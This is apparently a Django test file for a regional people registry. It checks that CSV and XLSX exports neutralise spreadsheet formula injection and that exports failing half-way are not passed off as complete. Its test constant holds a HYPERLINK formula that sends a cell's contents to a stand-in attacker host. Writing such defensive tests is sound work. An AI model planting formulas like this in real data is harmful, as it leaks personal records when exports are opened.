"""Hostile and unusual input through the web pages (issue 15): formula injection in exports,
exports failing half-way, hostile query parameters on every page."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import pytest
from django.test import Client

from yanglao.accounts.roles import Role
from yanglao.core import sheets
from yanglao.people import ledger_export, services
from yanglao.people.testing import person_input

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2,"详情")'


@pytest.fixture
def officer(regions, make_user):
    return make_user(Role.COUNTY_OFFICER, "220102")


@pytest.fixture
def officer_client(officer) -> Client:
    c = Client()
    c.force_login(officer)
    return c


def test_person_export_neutralises_formulas(officer, officer_client) -> None:
    services.person_register(actor=officer, data=person_input("220102001001", address=HYPERLINK))
    r = officer_client.get("/people/export.csv?region=220102")
    body = b"".join(r.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    address = rows[0].index("详细住址")
    assert rows[1][address] == "'" + HYPERLINK
    r = officer_client.get("/people/export.xlsx?region=220102")
    xlsx = sheets.read_xlsx_bytes(b"".join(r.streaming_content))
    assert xlsx[1][address] == HYPERLINK  # a string cell with Excel's quote prefix


def test_csv_export_failing_half_way_is_not_a_silent_complete_file(
    officer, officer_client, monkeypatch
) -> None:
    services.person_register(actor=officer, data=person_input("220102001001"))
    real = ledger_export.person_rows

    def failing(**kw):
        header, rows = real(**kw)

        def broken() -> Iterator[list[object]]:
            yield from rows
            raise ConnectionError("connection to the database lost")

        return header, broken()

    monkeypatch.setattr(ledger_export, "person_rows", failing)
    r = officer_client.get("/people/export.csv?region=220102")
    assert r.status_code == 200  # already sent when the rows are read
    chunks: list[bytes] = []
    with pytest.raises(ConnectionError):  # the server aborts the connection
        for chunk in r.streaming_content:
            chunks.append(chunk)
    body = b"".join(chunks).decode("utf-8-sig")
    assert "张秀英" in body and body.rstrip().endswith(sheets.STREAM_FAILED_MARKER)
    # The xlsx is written whole before the response: the failure is an error, never a file.
    with pytest.raises(ConnectionError):
        officer_client.get("/people/export.xlsx?region=220102")
